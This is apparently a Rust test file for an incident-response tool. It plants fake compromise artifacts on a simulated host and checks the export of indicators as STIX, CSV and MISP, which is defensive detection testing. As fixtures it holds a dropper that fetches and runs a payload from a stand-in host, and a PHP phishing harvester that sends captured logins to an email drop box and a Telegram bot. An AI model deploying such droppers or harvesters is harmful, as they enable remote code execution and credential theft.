//! Indicator export on a planted fake host: the real checks run, their findings are
//! recorded in a case, and the case's indicators are exported as STIX 2.1, CSV and
//! MISP. The attacker's address from the access and auth logs, a webshell's
//! SHA-256, a dropper's URL, a miner's pool, a kit's drop box and bot token are in
//! every format with where, when and the rule; the admin's own login address is
//! not. A dropper planted under a file name holding `<script>`, quotes and a
//! backslash, fetching a URL with a quote and a backslash, stays valid STIX, CSV and
//! JSON. The STIX bundle is checked by the OASIS validator (stix2-validator from
//! PyPI, in a venv kept in /var/tmp/breachkit-stix-venv): any error fails the test,
//! warnings are printed.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use breachkit_case::{Case, RunInfo};
use breachkit_gather::iocs::{self, Format, Indicators, Kind};
use breachkit_host::Host;
use breachkit_testkit::FakeHost;
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

const ATTACKER: &str = "198.51.100.23";
/// The admin's own SSH login (a new source, low): never exported.
const ADMIN_IP: &str = "198.18.7.44";
const WEBSHELL: &str = "/var/www/html/wp-content/uploads/2024/05/thumb.php";
const DROPPER_URL: &str = "http://198.51.100.23/i.sh";
const CRON_URL: &str = "http://203.0.113.7/u.sh";
const POOL: &str = "pool.supportxmr.com";
const HOSTILE_PATH: &str = "/tmp/<script>alert('x')<\\script>.sh";
const HOSTILE_URL: &str = "http://evil.example/p'a\\th";
const DROP_BOX: &str = "drop.box@example.net";
const BOT_TOKEN: &str = "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw";
const VENV: &str = "/var/tmp/breachkit-stix-venv";

/// The planted host plus a hostile dropper and a phishing harvester, checked; the
/// run is recorded in a case in `case_dir`.
fn planted_case(case_dir: &Path) -> (FakeHost, Case) {
    let (h, _) = FakeHost::planted();
    h.write(
        HOSTILE_PATH,
        "#!/bin/sh\nwget -q -O /tmp/.k \"http://evil.example/p'a\\th\" && chmod +x /tmp/.k && /tmp/.k; rm -f /tmp/.k\n",
    );
    h.write(
        "/var/www/html/wp-content/uploads/2024/05/o365/next.php",
        format!(
            "<?php\n$m = \"Email: \" . $_POST['login'] . \"\\nPassword: \" . $_POST['passwd'] . \"\\n\";\n\
             mail(\"{DROP_BOX}\", \"New log\", $m); file_get_contents(\"https://api.telegram.org/bot{BOT_TOKEN}/sendMessage?chat_id=-100&text=\" . urlencode($m));\n\
             header(\"Location: https://login.microsoftonline.com/\");\n"
        ),
    );
    let host = Host::image(h.root()).unwrap();
    let started = breachkit_case::now_rfc3339();
    let (mut report, failed) =
        breachkit_detect::run(&host, breachkit_detect::all_checks(), &|_| {});
    assert!(failed.is_empty(), "{failed:?}");
    report.sort();
    let mut case = Case::open(case_dir).unwrap();
    let info = RunInfo {
        command: "check --root /mnt/image".into(),
        root: "/mnt/image".into(),
        hostname: "web01".into(),
        version: "test".into(),
        started_at: started,
        finished_at: breachkit_case::now_rfc3339(),
        counts: BTreeMap::new(),
        judges: true,
    };
    case.record_run(&info, &report).unwrap();
    (h, case)
}

/// A host path as findings name it (a backslash doubled).
fn escaped(host_path: &str) -> String {
    breachkit_finding::escape_bytes(host_path.as_bytes())
}

fn export(ind: &Indicators, format: Format) -> String {
    let mut out = Vec::new();
    iocs::write(ind, format, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn sha256_of(h: &FakeHost, host_path: &str) -> String {
    hex::encode(Sha256::digest(std::fs::read(h.path(host_path)).unwrap()))
}

/// The cells of an RFC 4180 document (quoted cells, doubled quotes, CRLF rows).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF");
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, '\n') => panic!("a bare LF in {text:?}"),
            (false, c) => cell.push(c),
        }
    }
    assert!(
        !quoted && cell.is_empty() && row.is_empty(),
        "unterminated CSV"
    );
    rows
}

#[test]
fn indicators_of_a_planted_host_in_every_format() {
    let t = tempfile::tempdir().unwrap();
    let (h, case) = planted_case(&t.path().join("case"));
    let ind = iocs::collect(&case).unwrap();
    let find = |kind: Kind, value: &str| {
        ind.items
            .iter()
            .find(|i| i.kind == kind && i.value == value)
    };

    // The attacker's address, from the auth and the access log, first seen at the
    // first failure of the brute force.
    let attacker = find(Kind::SourceIp, ATTACKER).expect("attacker address");
    assert!(!attacker.internal);
    let rules = attacker.rules();
    for r in [
        "auth.ssh-login-after-failures",
        "web.shell-command",
        "web.php-in-uploads",
    ] {
        assert!(rules.contains(&r), "{rules:?}");
    }
    assert!(
        attacker
            .seen
            .iter()
            .any(|s| s.place.starts_with("/var/log/nginx/access.log:"))
    );
    assert!(
        attacker.seen.iter().all(|s| !s.run_time),
        "log lines have times"
    );
    assert!(
        find(Kind::SourceIp, ADMIN_IP).is_none(),
        "the admin's login is not an attacker's"
    );
    // The webshell's hash, seen where it lies, at the run's time.
    let hash = sha256_of(&h, WEBSHELL);
    let shell = find(Kind::Sha256, &hash).expect("webshell hash");
    assert!(
        shell
            .seen
            .iter()
            .any(|s| s.place.starts_with(WEBSHELL) && s.run_time && s.rule == "scan.webshell")
    );
    // Droppers, cron jobs, miners, reverse shells, the kit.
    for (kind, value) in [
        (Kind::Url, DROPPER_URL),
        (Kind::Url, CRON_URL),
        (Kind::Url, HOSTILE_URL),
        (Kind::Domain, POOL),
        (Kind::Domain, "evil.example"),
        (Kind::DestinationIp, "203.0.113.7"),
        (Kind::Email, DROP_BOX),
        (Kind::BotToken, BOT_TOKEN),
    ] {
        assert!(
            find(kind, value).is_some(),
            "{kind:?} {value} in {:#?}",
            ind.items
        );
    }
    let hostile = find(Kind::Url, HOSTILE_URL).unwrap();
    assert!(
        hostile
            .seen
            .iter()
            .any(|s| s.place.starts_with(&escaped(HOSTILE_PATH))),
        "{hostile:?}"
    );
    // A URL ends where its group does.
    assert!(
        !ind.items.iter().any(|i| i.value.ends_with(')')),
        "{:#?}",
        ind.items
    );
    // A kit's redirect to the real site is not the attacker's.
    assert!(
        !ind.items
            .iter()
            .any(|i| i.value.contains("microsoftonline"))
    );

    // CSV: one indicator per row, every row 7 cells, no formula.
    let csv = export(&ind, Format::Csv);
    let rows = csv_rows(&csv);
    assert_eq!(
        rows[0],
        [
            "type",
            "value",
            "first_seen",
            "last_seen",
            "where",
            "rules",
            "note"
        ]
    );
    assert_eq!(rows.len(), ind.items.len() + 1);
    for row in &rows {
        assert_eq!(row.len(), 7, "{row:?}");
        assert!(
            row.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
            "{row:?}"
        );
    }
    let row = |kind: &str, value: &str| {
        rows.iter()
            .find(|r| r[0] == kind && r[1] == value)
            .unwrap_or_else(|| panic!("{kind} {value} in {csv}"))
    };
    let a = row("ip-src", ATTACKER);
    assert!(
        a[2].starts_with("2024-05-0") && a[2].ends_with('Z'),
        "{a:?}"
    );
    assert!(
        a[4].contains("/var/log/auth.log:") && a[5].contains("web.shell-command"),
        "{a:?}"
    );
    assert!(row("sha256", &hash)[4].contains(WEBSHELL));
    assert!(row("url", HOSTILE_URL)[4].contains(&escaped(HOSTILE_PATH)));
    assert!(row("url", DROPPER_URL)[5].contains("scan.dropper"));

    // MISP: typed attributes, for detection.
    let misp: Value = serde_json::from_str(&export(&ind, Format::Misp)).unwrap();
    let attrs = misp["Event"]["Attribute"].as_array().unwrap();
    let attr = |kind: &str, value: &str| {
        attrs
            .iter()
            .find(|a| a["type"] == kind && a["value"] == value)
            .unwrap_or_else(|| panic!("{kind} {value} in {misp:#}"))
    };
    assert_eq!(attr("ip-src", ATTACKER)["to_ids"], true);
    assert_eq!(attr("sha256", &hash)["category"], "Payload delivery");
    assert!(
        attr("url", HOSTILE_URL)["comment"]
            .as_str()
            .unwrap()
            .contains(&escaped(HOSTILE_PATH))
    );
    attr("domain", POOL);
    attr("email-dst", DROP_BOX);
    assert_eq!(attr("text", BOT_TOKEN)["to_ids"], false);
    assert_eq!(misp["Event"]["distribution"], "0");

    // STIX: patterns, deterministic ids, and the OASIS validator.
    let stix = export(&ind, Format::Stix);
    assert_eq!(
        stix,
        export(&iocs::collect(&case).unwrap(), Format::Stix),
        "stable"
    );
    let bundle: Value = serde_json::from_str(&stix).unwrap();
    let patterns: Vec<&str> = bundle["objects"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|o| o["pattern"].as_str())
        .collect();
    for p in [
        format!("[ipv4-addr:value = '{ATTACKER}']"),
        format!("[file:hashes.'SHA-256' = '{hash}']"),
        format!("[url:value = '{DROPPER_URL}']"),
        r"[url:value = 'http://evil.example/p\'a\\th']".to_string(),
        format!("[domain-name:value = '{POOL}']"),
        format!("[email-addr:value = '{DROP_BOX}']"),
    ] {
        assert!(patterns.contains(&p.as_str()), "{p} in {patterns:#?}");
    }
    let file = t.path().join("iocs.stix.json");
    std::fs::write(&file, &stix).unwrap();
    validate_stix(&file);
}

#[test]
fn internal_addresses_are_marked_and_kept_out_of_shared_formats() {
    let t = tempfile::tempdir().unwrap();
    let mut case = Case::open(t.path()).unwrap();
    let line = |ip: &str| {
        format!(
            "{ip} - - [06/May/2024:14:21:40 +0000] \"GET /x.php?cmd=id HTTP/1.1\" 200 7 \"-\" \"curl/8\""
        )
    };
    let finding = |ip: &str| breachkit_finding::Finding {
        rule: "web.shell-command".into(),
        step: breachkit_finding::Step::Aware,
        severity: breachkit_finding::Severity::High,
        title: "t".into(),
        explanation: "e".into(),
        path: Some("/var/log/nginx/access.log".into()),
        line: Some(3),
        pid: None,
        time: Some("2024-05-06T14:21:40Z".into()),
        evidence: Some(line(ip)),
        mitre: None,
        next_step: None,
    };
    let report = breachkit_finding::Report {
        findings: vec![finding("10.1.2.3"), finding("203.0.113.9")],
        ..Default::default()
    };
    let info = RunInfo {
        command: "logs check".into(),
        root: "/".into(),
        hostname: "h".into(),
        version: "0".into(),
        started_at: "2024-05-07T00:00:00Z".into(),
        finished_at: "2024-05-07T00:01:00Z".into(),
        counts: BTreeMap::new(),
        judges: true,
    };
    assert!(matches!(iocs::collect(&case), Err(iocs::IocError::NoRun)));
    case.record_run(&info, &report).unwrap();
    let ind = iocs::collect(&case).unwrap();
    let internal: Vec<(&str, bool)> = ind
        .items
        .iter()
        .map(|i| (i.value.as_str(), i.internal))
        .collect();
    assert_eq!(internal, [("10.1.2.3", true), ("203.0.113.9", false)]);
    let csv = export(&ind, Format::Csv);
    assert!(
        csv.contains("10.1.2.3,") && csv.contains("internal address"),
        "{csv}"
    );
    for f in [Format::Stix, Format::Misp] {
        let out = export(&ind, f);
        assert!(
            !out.contains("10.1.2.3") && out.contains("203.0.113.9"),
            "{out}"
        );
    }
    let stix = export(&ind, Format::Stix);
    assert!(
        stix.contains("\"valid_from\": \"2024-05-06T14:21:40.000Z\""),
        "{stix}"
    );
}

/// Runs the OASIS STIX 2.1 validator on `file`; errors fail, warnings are printed.
fn validate_stix(file: &Path) {
    let validator = format!("{VENV}/bin/stix2_validator");
    let setup = format!(
        "test -x {validator} || {{ rm -rf {VENV} && python3 -m venv {VENV} && {VENV}/bin/pip install --quiet stix2-validator; }}"
    );
    let made = Command::new("flock")
        .args([&format!("{VENV}.lock"), "sh", "-c", &setup])
        .status()
        .expect("flock and python3 (Debian: util-linux, python3-venv)");
    assert!(
        made.success(),
        "could not install stix2-validator from PyPI into {VENV}"
    );
    let out = Command::new(&validator)
        .args(["--version", "2.1"])
        .arg(file)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    println!(
        "stix2_validator:\n{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.status.success() && !text.contains("[X]"),
        "STIX bundle invalid:\n{text}"
    );
}
